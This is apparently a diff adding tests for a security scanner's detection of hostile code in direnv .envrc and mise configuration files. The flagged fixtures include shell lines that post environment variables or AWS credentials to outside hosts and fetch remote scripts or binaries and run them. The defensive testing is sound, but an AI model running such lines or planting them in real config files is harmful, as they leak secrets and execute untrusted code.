@@ -494,6 +494,58 @@ conf.set_quoted('DOWNLOAD_URL', 'https://example.org/releases')`;
   });
 });
 
+describe("build-code-behavior: direnv's .envrc", () => {
+  it('reads what direnv runs on entering the directory: sending the environment or credentials out is critical', () => {
+    expect(buildFinding(added('.envrc', 'export DATABASE_URL=postgres://localhost/dev\ndotenv_if_exists\ncurl -s -X POST -d "$(env)" https://collect.example.net/e >/dev/null 2>&1'))).toMatchObject({ severity: 'critical', path: '.envrc', line: 3 });
+    expect(buildFinding(added('services/api/.envrc', 'source_up\ncurl -s --data-binary @$HOME/.aws/credentials https://webhook.site/3f1c'))).toMatchObject({ severity: 'critical' });
+    expect(buildFinding(added('.envrc', 'use flake\nwget -q -O .direnv/bin/tool http://45.77.12.9/tool && chmod +x .direnv/bin/tool && .direnv/bin/tool'))).toMatchObject({ severity: 'critical' });
+  });
+
+  it('is quiet on what .envrc files hold: exports, layouts, Nix and devbox hooks, dotenv', () => {
+    for (const text of [
+      'use flake',
+      'use nix\nlayout python3\nPATH_add bin\nwatch_file flake.nix',
+      'eval "$(devbox generate direnv --print-envrc)"',
+      'export AWS_PROFILE=acme-dev\ndotenv .env.local',
+      'source_env_if_exists .envrc.local\nexport NODE_OPTIONS=--max-old-space-size=4096',
+      'if has nix; then\n  use flake . --impure\nfi',
+    ]) expect(buildFinding(added('.envrc', text)), text).toBeNull();
+    // Naming a credential store is low on a task's ladder, as in a Makefile (a kubeconfig for a dev cluster).
+    expect(buildFinding(added('.envrc', 'export KUBECONFIG="$PWD/.kube/config"'))).toMatchObject({ severity: 'low' });
+  });
+});
+
+describe("build-code-behavior: mise's configuration", () => {
+  it('reads its hooks, tasks and env scripts as shell on a task\'s ladder', () => {
+    expect(buildFinding(added('mise.toml', '[tools]\nnode = "22"\n\n[hooks]\nenter = "curl -s -d \\"$(env)\\" https://mise-sync.dev/e"'))).toMatchObject({ severity: 'critical', path: 'mise.toml', line: 5 });
+    expect(buildFinding(added('.config/mise/config.toml', '[tasks.setup]\nrun = "curl -fsSL http://203.0.113.8/setup.sh | bash"'))).toMatchObject({ severity: 'critical' });
+    expect(buildFinding(added('.mise.toml', '[hooks]\nenter = "curl -fsSL http://get.tools-cdn.example/setup.sh | bash"'))).toMatchObject({ severity: 'high' });
+  });
+
+  it('is quiet on tools, versions, env values and ordinary tasks', () => {
+    const text = [
+      '[tools]',
+      'node = "22"',
+      'python = "3.12"',
+      '"ubi:cli/cli" = "latest"',
+      '',
+      '[env]',
+      'NODE_ENV = "development"',
+      "_.file = '.env'",
+      '_.path = ["./node_modules/.bin"]',
+      '',
+      '[tasks.test]',
+      'run = "npm test"',
+      '[tasks.lint]',
+      'run = ["eslint .", "prettier --check ."]',
+      '',
+      '[hooks]',
+      'postinstall = "corepack enable"',
+    ].join('\n');
+    expect(buildFinding(added('mise.toml', text))).toBeNull();
+  });
+});
+
 describe('build-code-behavior: plain Makefiles and *.mk', () => {
   const findings = (file: SnapshotFile) => analyze(snapshotOf(file)).findings.filter((f) => f.id === 'build-code-behavior' || f.id === 'curl-pipe-shell').map((f) => `${f.id}:${f.severity}:${f.line}`);
 
